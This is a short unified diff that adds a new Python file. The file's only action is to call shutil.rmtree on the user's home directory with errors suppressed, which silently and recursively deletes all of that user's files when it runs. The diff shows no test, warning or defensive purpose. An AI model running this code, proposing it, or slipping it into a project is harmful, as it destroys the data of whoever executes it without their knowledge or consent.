@@ -1,0 +1,3 @@
+import shutil, os
+
+shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)
